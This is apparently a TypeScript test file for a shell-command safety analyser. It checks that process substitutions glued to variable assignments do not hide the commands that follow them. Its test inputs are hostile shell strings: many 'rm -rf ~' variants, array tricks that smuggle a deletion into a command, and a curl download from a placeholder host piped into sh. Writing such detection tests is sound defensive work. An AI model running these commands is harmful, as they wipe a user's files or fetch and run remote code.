// The shell joins what stands together; the parser ends a word at each process substitution. bash -c 'A=<(true) echo hi' prints hi.
import { describe, expect, it } from "vitest";
import { analyse } from "../../src/shell/analyse.ts";

const ran = (text: string) =>
  analyse(text).steps.flatMap((step) => (step.kind === "run" ? [step.call.name] : []));

describe("a process substitution that stands in a word", () => {
  it.each([
    ["A=<(a) rm -rf ~", ["a", "rm"]],
    ["A=>(a) rm -rf ~", ["a", "rm"]],
    ["A+=<(a) rm -rf ~", ["a", "rm"]],
    ["A[0]=<(a) rm -rf ~", ["a", "rm"]],
    ["A=b<(a)c rm -rf ~", ["a", "rm"]],
    ["A=<(a)<(b) rm -rf ~", ["a", "b", "rm"]],
    ["A=$(x)<(a) rm -rf ~", ["x", "a", "rm"]],
    ["A=<(a) B=2 rm -rf ~", ["a", "rm"]],
    ["A=<(a) B=<(b) rm -rf ~", ["a", "b", "rm"]],
    ["A=1 B=<(a) C[1]+=2 sudo rm -rf ~", ["a", "sudo", "rm"]],
    ["time (A=<(a) rm -rf ~)", ["a", "rm"]],
    [">f<(a) rm -rf ~", ["a", "rm"]],
    [">f<(a)g B=1 rm -rf ~", ["a", "rm"]],
  ])("%j still runs what is behind it", (text, names) => {
    const analysis = analyse(text);
    expect(ran(text)).toEqual(names);
    expect([...analysis.risks]).toContain("delete-recursive");
  });

  it("leaves the variable unknown", () => {
    expect([...analyse("A=<(a); rm -rf /$A").risks]).not.toEqual([]);
    expect(ran("A=r<(a); $A -rf ~")).not.toContain("r");
  });

  it.each([
    "X=(a $(rm -rf ~))#",
    "X=(a $(rm -rf ~))b ls",
    "export X=(a $(rm -rf ~))c",
    "X+=(`rm -rf ~`)d ls",
    "X[1]=(a $(rm b))c ls",
  ])("%j is not said to be read as a whole: what is in the list runs", (text) => {
    const analysis = analyse(text);
    expect([...analysis.risks].some((risk) => risk === "not-fully-checked" || risk === "unreadable")).toBe(
      true,
    );
    expect(analysis.plain).toBeUndefined();
  });

  it("is not taken for what puts out what another command reads", () => {
    const [plain, glued] = ["", "A=<(a) "].map(
      (start) => analyse(`${start}curl https://x.example/y > >(sh)`).risks,
    );
    expect(plain).toContain("download-to-shell");
    expect(glued).toContain("download-to-shell");
  });

  it("is an argument of its own where a space is before it", () => {
    expect(ran("A=1 <(a) rm -rf ~")).not.toContain("rm");
    expect(ran("diff <(ls a) <(ls b)")).toEqual(["ls", "ls", "diff"]);
  });
});
